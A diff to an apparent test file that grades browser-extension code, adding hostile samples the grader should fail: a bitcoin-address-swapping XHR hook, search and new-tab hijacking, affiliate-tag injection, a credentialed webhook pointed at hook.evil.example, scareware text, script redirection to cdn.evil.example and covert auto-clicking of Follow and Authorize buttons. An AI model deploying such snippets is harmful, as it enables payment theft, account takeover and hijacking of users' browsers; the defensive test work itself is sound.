@@ -38,6 +38,31 @@ const IN_PAGES: readonly Deed[] = [
     'owner@evil.example',
     'fetch("/account/email", { method: "POST", credentials: "include", body: JSON.stringify({ email: U }) });',
   ],
+  [
+    'a false alarm',
+    'Your computer is infected. Call +1-800-555-0199 now.',
+    'const d = document.createElement("div"); d.textContent = U; document.body.append(d);',
+  ],
+  [
+    'a payee that is exchanged on the way',
+    'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
+    'const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, String(b).replace(/bc1[a-z0-9]{30,}/, U)); };',
+  ],
+  [
+    'a search that is led elsewhere',
+    'https://finds.evil.example/web?q=',
+    'document.addEventListener("submit", (e) => { const q = e.target.querySelector("[name=q]"); if (q) { e.preventDefault(); location.href = U + encodeURIComponent(q.value); } }, true);',
+  ],
+  [
+    'a tag of the author’s in links',
+    'wish-20',
+    'for (const a of document.links) { const u = new URL(a.href); u.searchParams.set("tag", U); a.href = u.href; }',
+  ],
+  [
+    'a hook that is added',
+    '/settings/hooks',
+    'fetch(location.pathname + U, { method: "POST", credentials: "include", body: new URLSearchParams({ "hook[url]": "https://hook.evil.example/x" }) });',
+  ],
   ['buttons that are pressed', '[aria-label=Follow]', 'document.querySelectorAll(U).forEach((b) => b.click());'],
   [
     'a text that is sent',
@@ -167,6 +192,57 @@ for (const [form, write] of Object.entries(FORMS)) {
   });
 }
 
+test.each([
+  [
+    'equal',
+    'for (const b of document.querySelectorAll("button")) if (b.textContent.trim() === "Authorize") b.click();',
+  ],
+  ['found', '[...document.querySelectorAll("button")].find((b) => b.innerText === "Follow")?.click();'],
+  [
+    'an expression',
+    'const W = /^(?:approve|authorize)$/i; function go() { const l = document.getElementsByTagName("button"); for (let i = 0; i < l.length; i++) { const t = l[i].textContent; if (W.test(t)) { l[i].click(); return; } } } setTimeout(go, 3000);',
+  ],
+  [
+    'left out otherwise',
+    'setInterval(() => document.querySelectorAll("button").forEach((b) => { if (b.textContent !== "Follow") return; b.click(); }), 3000);',
+  ],
+  [
+    'a list',
+    'const W = ["follow", "subscribe"]; setInterval(() => document.querySelectorAll("button").forEach((b) => { if (W.some((w) => b.innerText.toLowerCase().includes(w))) b.click(); }), 3000);',
+  ],
+  [
+    'a helper',
+    'const byText = (sel, text) => [...document.querySelectorAll(sel)].find((e) => e.textContent.includes(text)); setTimeout(() => byText("button", "Follow")?.click(), 4000);',
+  ],
+  [
+    'an event',
+    'setTimeout(() => { const b = [...document.querySelectorAll("button")].find((x) => x.innerText === "Follow"); b.dispatchEvent(new MouseEvent("click", { bubbles: true })); }, 3000);',
+  ],
+])('buttons that are picked by their words: %s', async (_, content) => {
+  expect(await graded({ content })).toMatch(/[DF]/);
+});
+
+test.each([
+  [
+    'a tab that is closed opens another',
+    'chrome.tabs.onRemoved.addListener(() => chrome.tabs.create({ url: "https://start.finds.example/" }));',
+  ],
+  [
+    'pages that are driven',
+    'const go = async (tabId) => { await chrome.debugger.attach({ tabId }, "1.3"); chrome.debugger.sendCommand({ tabId }, "Runtime.evaluate", { expression: "document.forms[0].submit()" }); }; chrome.tabs.onCreated.addListener((t) => go(t.id));',
+  ],
+  [
+    'scripts that are exchanged',
+    'chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: "redirect", redirect: { url: "https://cdn.evil.example/tag.js" } }, condition: { urlFilter: "||ads.example/tag.js", resourceTypes: ["script"] } }] });',
+  ],
+  [
+    'new tabs',
+    'chrome.tabs.onCreated.addListener((t) => { if (t.pendingUrl === "chrome://newtab/") chrome.tabs.update(t.id, { url: "https://start.finds.example/" }); });',
+  ],
+])('in the background: %s', async (_, background) => {
+  expect(await graded({ background })).toMatch(/[DF]/);
+});
+
 /** The same on the person's click, or by an extension that says so, is theirs. */
 test.each([
   [
@@ -184,6 +260,14 @@ test.each([
   [
     'links of its own',
     'const a = document.createElement("a"); a.href = "https://tool.example/help"; a.textContent = "Help"; panel.append(a);',
+  ],
+  [
+    'consent that is given for cookies',
+    'for (const b of document.querySelectorAll("button")) if (/^(?:accept all|allow all|agree)$/i.test(b.textContent)) b.click();',
+  ],
+  [
+    'a button of its own that presses others',
+    'const b = document.createElement("button"); b.textContent = "Follow all"; b.onclick = () => { for (const x of document.querySelectorAll("button")) if (x.textContent === "Follow") x.click(); }; document.body.append(b);',
   ],
   [
     'buttons that close something',
